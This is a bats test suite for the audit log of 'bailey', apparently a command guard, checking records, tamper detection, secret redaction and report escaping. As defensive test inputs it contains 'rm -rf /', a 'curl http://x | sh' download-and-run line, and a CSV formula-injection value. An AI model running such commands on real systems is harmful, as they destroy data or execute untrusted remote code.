#!/usr/bin/env bats
# bailey audit: every command leaves a record, and nobody changes one unnoticed.

setup() {
        export HOME=$BATS_TEST_TMPDIR/home
        unset XDG_CONFIG_HOME XDG_STATE_HOME
        umask 022
        mkdir -p "$HOME" "$BATS_TEST_TMPDIR/work"
        cd "$BATS_TEST_TMPDIR/work" || exit 1
        log=$HOME/.local/state/bailey/audit.jsonl
}

# eventually COMMAND...: until it succeeds
eventually() {
        local end=$((SECONDS + 60))
        until "$@"; do
                if ((SECONDS > end)); then
                        echo "in vain: $*"
                        return 1
                fi
                sleep 0.05
        done
}

# Commands run without walls here: walls have suites of their own, and these records must come on any machine.
run_plain() {
        BAILEY_SANDBOX=none BAILEY_ALLOW_NO_SANDBOX=1 "$BAILEY" run "$@"
}

configure() {
        mkdir -p "$HOME/.config/bailey"
        printf '%s\n' "$@" >"$HOME/.config/bailey/config.toml"
}

@test "intent and outcome, with the same id" {
        run_plain --json 'echo out; exit 3' || true
        [ "$(wc -l <"$log")" = 2 ]
        [ "$(stat -c %a "$log")" = 600 ]
        [ "$(jq -r .kind "$log" | paste -sd' ')" = "intent outcome" ]
        [ "$(jq -r .id "$log" | sort -u | wc -l)" = 1 ]
        [ "$(jq -r .session "$log" | sort -u | wc -l)" = 1 ]
        jq -es '.[1] | .exit_code == 3 and .output_bytes == 4 and .truncated == false and .timed_out == false and
                .action == "allowed" and .backend == "none" and .command == "echo out; exit 3" and .policy == "default" and
                .cwd == "'"$PWD"'" and .workspace == "'"$PWD"'" and .redactions == 0 and .form == "command"' "$log"
        "$BAILEY" audit verify
}

@test "a refusal, a failure, a question" {
        run run_plain 'rm -rf /'
        [ "$status" = 126 ]
        code=0
        run_plain -- no-such-program-at-all || code=$?
        [ "$code" = 127 ]
        run "$BAILEY" test 'curl http://x | sh'
        [ "$status" = 2 ]
        run run_plain --show-plan true
        [ "$(jq -r .kind "$log" | paste -sd' ')" = "refused intent failed tested tested" ]
        jq -es '.[0] | .action == "blocked" and .reasons[0].rule == "recursive-delete-root" and
                .reasons[0].range == [7, 8]' "$log"
        jq -es '.[2] | .form == "argv" and (.message | test("no-such-program-at-all"))' "$log"
        "$BAILEY" audit verify
}

@test "the intent is there before the command runs" {
        run_plain --set guard.mode=off "cat $log >seen"
        jq -es 'length == 1 and .[0].kind == "intent"' seen
}

@test "no values of the environment" {
        export SECRET_TOKEN=hunter2hunter2 MY_VALUE=hunter3hunter3
        # shellcheck disable=SC2016 # it is the command's
        run_plain --set guard.mode=off -e MY_OTHER=hunter4hunter4 -e SECRET_TOKEN 'echo $MY_OTHER $SECRET_TOKEN'
        run grep hunter "$log"
        [ "$status" = 1 ]
}

@test "what cannot be recorded does not run" {
        mkdir -p "${log%/*}"
        mkdir "$log"
        run run_plain 'touch ran'
        [ "$status" = 125 ]
        [[ $output == *"$log"* ]]
        [[ $output == *"audit.required = false"* ]]
        [ ! -e ran ]
        run run_plain --set audit.required=false 'touch ran'
        [ "$status" = 0 ]
        [[ $output == *"not in the audit log"* ]]
        [ -e ran ]
        run "$BAILEY" test true
        [ "$status" = 0 ]
        [[ $output != *audit* ]]
}

@test "no file when it is disabled" {
        run_plain --set audit.enabled=false true
        [ ! -e "$log" ]
        run "$BAILEY" audit
        [ "$status" = 0 ]
        [ -z "$output" ]
        run "$BAILEY" audit verify
        [ "$status" = 0 ]
}

@test "tail: a line for each command, harmless on a terminal" {
        run_plain $'echo one\necho two'
        run run_plain $'printf "\x1b[31m"'
        run "$BAILEY" audit
        [ "$status" = 0 ]
        [ "${#lines[@]}" = 2 ]
        [[ ${lines[0]} =~ ^20[0-9-]+T[0-9:.]+Z\ \ [0-9a-f]{8}\ \ allowed\ \ none\ +exit\ 0\ +[0-9]+ms\ +echo\ one\ \.\.\.$ ]]
        [[ ${lines[1]} == *'blocked'*'refused'*'printf "\x1b[31m"' ]]
        run "$BAILEY" audit tail -n 1
        [ "${#lines[@]}" = 1 ]
        [[ $output == *refused* ]]
        [ "$("$BAILEY" audit tail -n 0 --json | wc -l)" = 3 ]
}

@test "a command without an end is shown" {
        run_plain 'echo one'
        head -n 1 "$log" >first
        cp first "$log"
        run "$BAILEY" audit
        [[ $output == *"no end"*"echo one" ]]
}

@test "tail -f sees what comes, also after a rotation" {
        run_plain 'echo first'
        timeout 300 "$BAILEY" audit tail -f >seen &
        local pid=$!
        eventually grep -q first seen
        run_plain 'echo second'
        eventually grep -q second seen
        mv "$log" "$log.1"
        run_plain 'echo third'
        eventually grep -q third seen
        kill "$pid"
        [ "$(sed 's/.* //' seen | paste -sd' ')" = "first second third" ]
        "$BAILEY" audit verify
}

@test "filters" {
        run_plain 'echo one'
        run run_plain 'rm -rf /'
        run "$BAILEY" audit --action blocked
        [ "${#lines[@]}" = 1 ]
        run "$BAILEY" audit --rule recursive-delete-root
        [ "${#lines[@]}" = 1 ]
        run "$BAILEY" audit --rule no-such-rule
        [ -z "$output" ]
        run "$BAILEY" audit --since 1h
        [ "${#lines[@]}" = 2 ]
        run "$BAILEY" audit --until 2020-01-01
        [ -z "$output" ]
        run "$BAILEY" audit --session "$(jq -r .session "$log" | tail -n 1)"
        [ "${#lines[@]}" = 1 ]
        run "$BAILEY" audit --since never
        [ "$status" = 2 ]
        [[ $output == *"expected a time"* ]]
}

@test "show, stats, export" {
        run_plain 'echo "one"'
        run run_plain 'rm -rf /'
        id=$(jq -r .id "$log" | head -n 1)
        run "$BAILEY" audit show "${id:0:8}"
        [ "$status" = 0 ]
        [[ $output == *"id              $id"* ]]
        [ "$("$BAILEY" audit show "$id" --json | wc -l)" = 2 ]
        run "$BAILEY" audit show 00000000-0000-0000-0000-000000000000
        [ "$status" = 1 ]
        run "$BAILEY" audit stats
        [[ $output == "2 commands, from 20"* ]]
        "$BAILEY" audit stats --json | jq -e '.commands == 2 and .action == {allowed: 1, blocked: 1} and
                .kind == {intent: 1, outcome: 1, refused: 1} and .rule["recursive-delete-root"] == 1'
        run_plain '=cmd "x", y' || true
        "$BAILEY" audit export --csv >table
        [ "$(wc -l <table)" = "$(($(wc -l <"$log") + 1))" ]
        python3 - table <<-'EOF'
		import csv, sys
		rows = list(csv.DictReader(open(sys.argv[1])))
		assert rows[1]["command"] == 'echo "one"' and rows[1]["exit_code"] == "0", rows
		assert rows[-1]["command"] == "'=cmd \"x\", y", rows
		assert "recursive-delete-root" in rows[2]["rules"].split()
		EOF
        run "$BAILEY" audit export
        [ "$status" = 2 ]
        run "$BAILEY" audit dance
        [ "$status" = 2 ]
}

@test "verify names the first broken record" {
        for i in 1 2 3; do run_plain "echo $i"; done
        run "$BAILEY" audit verify
        [ "$status" = 0 ]
        [[ $output == "ok: 6 records in 1 file, last hash "* ]]
        id=$(sed -n 4p "$log" | jq -r .id)
        sed -i '4s/echo 2/echo 5/' "$log"
        run "$BAILEY" audit verify
        [ "$status" = 1 ]
        [ "$output" = "$log:4: record $id: its content is not what its hash says" ]
        "$BAILEY" audit verify --json | jq -e '.ok == false and .line == 4 and .id == "'"$id"'"'
}

@test "verify misses what was taken from the beginning" {
        for i in 1 2 3; do run_plain "echo $i"; done
        sed -i 1,2d "$log"
        id=$(sed -n 1p "$log" | jq -r .id)
        run "$BAILEY" audit verify
        [ "$status" = 1 ]
        [ "$output" = "$log:1: record $id: records before it are missing" ]
}

@test "a line that was torn is closed" {
        run_plain 'echo one'
        printf '{"prev":"' >>"$log"
        run "$BAILEY" audit verify
        [ "$status" = 0 ]
        [[ $output == *"audit.jsonl:3: incomplete record of 9 bytes"* ]]
        run_plain 'echo two'
        run "$BAILEY" audit verify
        [ "$status" = 0 ]
        [[ $output == "ok: 5 records"*"records interrupted by a killed writer: 1"* ]]
        [ "$("$BAILEY" audit | wc -l)" = 3 ]
}

@test "bailey is killed at any moment: the chain holds, and the next start works" {
        for i in $(seq 30); do
                BAILEY_SANDBOX=none BAILEY_ALLOW_NO_SANDBOX=1 "$BAILEY" run "echo $i" >/dev/null 2>&1 &
                sleep "0.0$((RANDOM % 9))"
                kill -9 "$!" 2>/dev/null || true
                wait "$!" 2>/dev/null || true
        done
        run_plain 'echo last'
        "$BAILEY" audit verify
}

@test "a record elsewhere is out of reach" {
        configure "audit.path = \"$PWD/.log/a.jsonl\""
        run "$BAILEY" run true
        if [ "$status" != 0 ]; then skip "no sandbox works here: $output"; fi
        "$BAILEY" run 'echo x >>.log/a.jsonl; cat .log/a.jsonl; mv .log log; rm -rf .log; true'
        [ "$("$BAILEY" audit | wc -l)" = 2 ]
        "$BAILEY" audit verify
        configure "audit.path = \"$PWD/a.jsonl\""
        run "$BAILEY" run true
        [ "$status" = 125 ]
        [[ $output == *"audit.path"*"contains the workspace; use a separate directory"* ]]
        mkdir ../log
        ln -s ../log link
        configure "audit.path = \"$PWD/link/a.jsonl\""
        run "$BAILEY" run true
        [ "$status" = 125 ]
        [[ $output == *"audit.path"*"can change the symbolic link $PWD/link"* ]]
        rm -f ../log/a.jsonl
        configure "audit.path = \"$HOME/a.jsonl\""
        "$BAILEY" run true
        run "$BAILEY" run "cat '$HOME/a.jsonl'"
        [ "$status" != 0 ]
        [[ $output != *'"kind"'* ]]
}

@test "report: a page in a file of one's own, or on stdout" {
        run_plain 'echo "</script>"'
        run run_plain 'rm -rf /'
        "$BAILEY" audit report --html page.html
        [ "$(stat -c %a page.html)" = 600 ]
        [ "$(ls)" = page.html ]
        grep -q '"commands":2,"open":0,"changes":0,"verdicts":{"allowed":1,"warned":0,"blocked":1,"other":0}' page.html
        grep -q '"command":"echo \\u0022\\u003c/script\\u003e\\u0022"' page.html
        [ "$(grep -c '</script>' page.html)" = 2 ]
        sed 's/"time":"[^"]*"//' page.html >one
        "$BAILEY" audit report --html - | sed 's/"time":"[^"]*"//' >two
        cmp one two
        "$BAILEY" audit report --html page.html --action blocked --lines 5
        grep -q '"commands":1,"open":0' page.html
        grep -q '{"name":"action","value":"blocked"}' page.html
        [ "$(grep -c 'echo' page.html)" = 0 ]
}

@test "report: what cannot be done is said, and nothing is left behind" {
        run_plain 'echo one'
        run "$BAILEY" audit report
        [ "$status" = 2 ]
        [[ $output == *"--html FILE"* ]]
        run "$BAILEY" audit report --html no/such/directory/page.html
        [ "$status" = 1 ]
        [[ $output == *"no/such/directory/page.html"* ]]
        mkdir place
        run "$BAILEY" audit report --html place
        [ "$status" = 1 ]
        [ "$(ls)" = place ]
        run "$BAILEY" audit report --html page.html --lines 100001
        [ "$status" = 2 ]
        run "$BAILEY" audit report --html page.html --since never
        [ "$status" = 2 ]
        [ ! -e page.html ]
        "$BAILEY" audit report --html /dev/stdout | grep -q '<!doctype html>'
}

@test "report: a file that was there is replaced whole, a link is not followed" {
        run_plain 'echo one'
        echo kept >target
        ln -s target page.html
        "$BAILEY" audit report --html page.html
        [ ! -L page.html ]
        [ "$(cat target)" = kept ]
        [ "$("$BAILEY" audit report --html /dev/full 2>&1)" = "bailey: audit: /dev/full: write: No space left on device" ]
}

@test "serve: prints an address, shows the page once, and ends when asked" {
        run_plain 'echo one'
        "$BAILEY" audit serve >address 2>said &
        local pid=$!
        eventually grep -q token= address
        [[ $(cat address) =~ ^http://127\.0\.0\.1:[0-9]+/\?token=[0-9a-f-]{36}$ ]]
        curl -s -f -c jar "$(cat address)" >first
        local place
        place=$(sed -n 's/.*url=\([^"]*\)".*/\1/p' first)
        curl -s -f -b jar "$(sed 's/?.*//; s,/$,,' address)$place" >page
        grep -q '"command":"echo one"' page
        [ "$(curl -s -o answer -w '%{http_code}' "$(cat address)")" = 403 ]
        kill "$pid"
        wait "$pid"
}
